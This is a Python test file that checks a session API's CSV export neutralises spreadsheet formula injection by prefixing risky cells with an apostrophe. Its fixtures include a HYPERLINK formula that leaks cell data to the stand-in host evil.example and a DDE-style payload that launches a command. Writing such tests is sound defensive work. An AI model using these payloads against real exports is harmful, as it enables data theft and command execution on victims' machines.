"""The CSV listing never hands a spreadsheet a formula: every text cell that starts with
= + - @ tab or CR, also after leading spaces or newlines, is kept as text (a leading ')."""

import csv
import io
from typing import Any

from tests.support import Api, Server

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


async def test_no_csv_cell_can_run_as_a_formula(server: Server, api: Api) -> None:
    s = await api.create_session(
        title="CSV", roster=["Maria"], producer_name="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    sid, producer = s["session"]["id"], s["tokens"]["producer"]
    r = await api.http.post(
        f"/api/v1/sessions/{sid}/participants",
        json={"role": "observer", "name": HYPERLINK},
        headers=api.auth(producer),
    )
    assert r.status_code == 201, r.text
    observer = r.json()["token"]
    notes: list[tuple[str, str, str | None]] = [
        (producer, " =1+1", None),
        (producer, "\n=1", None),
        (producer, "  \n +2", None),
        (producer, "\t-3", None),
        (observer, HYPERLINK, "-2-1"),
        (observer, "fine, =not a formula", "plain-id"),
    ]
    for token, text, event_id in notes:
        body: dict[str, Any] = {"kind": "note", "body": {"text": text}}
        if event_id:
            body["id"] = event_id
        r = await api.http.post(
            f"/api/v1/sessions/{sid}/events", json=body, headers=api.auth(token)
        )
        assert r.status_code == 201, r.text
    r = await api.http.get(
        f"/api/v1/sessions/{sid}/events", params={"format": "csv"}, headers=api.auth(producer)
    )
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    header, rows = rows[0], rows[1:]
    notes_rows = [dict(zip(header, row, strict=True)) for row in rows if row[2] == "note"]
    assert len(notes_rows) == len(notes)
    for row in rows:
        for cell in row:
            assert not is_formula(cell), (cell, row)
    by_text = {row["text"]: row for row in notes_rows}
    # Neutralised, not lost: the apostrophe is the only change.
    assert "' =1+1" in by_text and "'\n=1" in by_text and "'  \n +2" in by_text
    assert "'\t-3" in by_text
    assert by_text["'" + HYPERLINK]["author_name"] == "'" + HYPERLINK
    assert by_text["'" + HYPERLINK]["id"] == "'-2-1"
    assert by_text["' =1+1"]["author_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_text["fine, =not a formula"]["id"] == "plain-id"
